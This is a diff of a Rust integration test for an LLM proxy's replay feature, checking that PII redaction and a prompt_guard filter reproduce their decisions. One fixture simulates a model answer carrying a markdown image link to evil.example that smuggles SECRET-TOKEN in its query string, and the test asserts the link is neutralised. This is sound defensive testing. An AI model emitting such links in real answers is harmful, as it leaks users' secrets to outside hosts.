@@ -69,7 +69,36 @@ async fn replay_reproduces_decisions_and_shows_a_policy_diff() -> anyhow::Result
         .send()
         .await?;
     assert_eq!(resp.status, 502, "{}", resp.text());
-    let lines = env.access_log(bodies.len() + 1).await?;
+    // Streamed answers and answer-side decisions: a pseudonymised e-mail address restored in
+    // a streamed echo, PII in a streamed answer redacted, an exfiltration link neutralised.
+    let streamed = [
+        (
+            "restored",
+            "Please write to jane.doe@example.com today",
+            None,
+        ),
+        ("answer-pii", "Tell me about our customer.", Some("pii")),
+        (
+            "exfil",
+            "Show me the chart please.",
+            Some("text:Here: ![chart](https://evil.example/c.png?d=SECRET-TOKEN) done"),
+        ),
+    ];
+    for (id, text, scenario) in streamed {
+        let stream = id != "exfil";
+        let body =
+            json!({"model":"gpt-4o","stream":stream,"messages":[{"role":"user","content":text}]});
+        let mut req = c
+            .post("/v1/chat/completions", body.to_string())
+            .header("x-request-id", format!("replay-{id}"));
+        if let Some(s) = scenario {
+            req = req.header("x-demo-scenario", s);
+        }
+        let resp = req.send().await?;
+        assert_eq!(resp.status, 200, "{id}: {}", resp.text());
+        assert!(!resp.text().contains("SECRET-TOKEN"), "{}", resp.text());
+    }
+    let lines = env.access_log(bodies.len() + 1 + streamed.len()).await?;
     // The capture is encrypted: no prompt text in the log.
     let text: Vec<String> = lines.iter().map(Value::to_string).collect();
     let log_text = text.join("\n");
@@ -88,8 +117,8 @@ async fn replay_reproduces_decisions_and_shows_a_policy_diff() -> anyhow::Result
     .await?;
     assert_eq!(code, 0, "{out:?}");
     let summary = out.last().unwrap();
-    // Four requests, three filters each.
-    assert_eq!(summary["summary"]["replayed"], 12, "{out:?}");
+    // Seven requests, three filters each.
+    assert_eq!(summary["summary"]["replayed"], 21, "{out:?}");
     assert_eq!(summary["summary"]["differ"], 0, "{out:?}");
     for r in &out[..out.len() - 1] {
         assert_eq!(r["same"], true, "{r}");
@@ -117,8 +146,45 @@ async fn replay_reproduces_decisions_and_shows_a_policy_diff() -> anyhow::Result
         .iter()
         .find(|r| r["request_id"] == "replay-redacted" && r["filter"] == "pii_redact")
         .unwrap();
-    assert_eq!(redacted["entities"]["replayed"]["EMAIL"], 1, "{redacted}");
+    assert_eq!(
+        redacted["entities"]["replayed"]["request"]["EMAIL"], 1,
+        "{redacted}"
+    );
+    assert_eq!(redacted["restored"]["replayed"], 1, "{redacted}");
     assert_eq!(redacted["path"][0]["type"], "EMAIL");
+
+    let find = |id: &str, filter: &str| {
+        out.iter()
+            .find(|r| r["request_id"] == id && r["filter"] == filter)
+            .cloned()
+            .unwrap()
+    };
+    let restored = find("replay-restored", "pii_redact");
+    assert_eq!(restored["replayed"], "modify", "{restored}");
+    assert_eq!(restored["restored"]["replayed"], 1, "{restored}");
+    let answer_pii = find("replay-answer-pii", "pii_redact");
+    assert_eq!(answer_pii["replayed"], "modify", "{answer_pii}");
+    assert!(
+        answer_pii["entities"]["replayed"]["response"]["CREDIT_CARD"]
+            .as_u64()
+            .unwrap()
+            >= 1,
+        "{answer_pii}"
+    );
+    let exfil = find("replay-exfil", "prompt_guard");
+    assert_eq!(exfil["replayed"], "modify", "{exfil}");
+    assert_eq!(exfil["exfil_links"]["replayed"], 1, "{exfil}");
+    // The decision path of the blocked prompt: normalisation, rule positions, thresholds.
+    let m = &blocked["path"][0]["matches"][0];
+    assert!(
+        m["start"].as_u64().unwrap() < m["end"].as_u64().unwrap(),
+        "{blocked}"
+    );
+    assert_eq!(
+        blocked["path"][0]["normalisation"][0], "lowercased",
+        "{blocked}"
+    );
+    assert!(blocked["path"][0]["block_at"].as_f64().is_some());
 
     // A policy change (e-mail addresses allowed): the redacted request now differs.
     let cfg = dir.join("pii.json");
@@ -133,11 +199,18 @@ async fn replay_reproduces_decisions_and_shows_a_policy_diff() -> anyhow::Result
     })
     .await?;
     assert_eq!(code, 1, "{out:?}");
-    let diff: Vec<&Value> = out.iter().filter(|r| r["same"] == false).collect();
-    assert_eq!(diff.len(), 1, "{out:?}");
-    assert_eq!(diff[0]["request_id"], "replay-redacted");
-    assert_eq!(diff[0]["recorded"], "modify");
-    assert_eq!(diff[0]["replayed"], "allow");
+    let mut diff: Vec<&Value> = out.iter().filter(|r| r["same"] == false).collect();
+    diff.sort_by_key(|r| r["request_id"].as_str().unwrap_or_default().to_string());
+    // The two requests that sent an e-mail address (no longer pseudonymised); the PII answer
+    // is still redacted for its other entities, so its decision stands.
+    let ids: Vec<&str> = diff
+        .iter()
+        .map(|r| r["request_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, ["replay-redacted", "replay-restored"], "{out:?}");
+    let redacted = diff[0];
+    assert_eq!(redacted["recorded"], "modify");
+    assert_eq!(redacted["replayed"], "allow");
     env.finish();
     Ok(())
 }
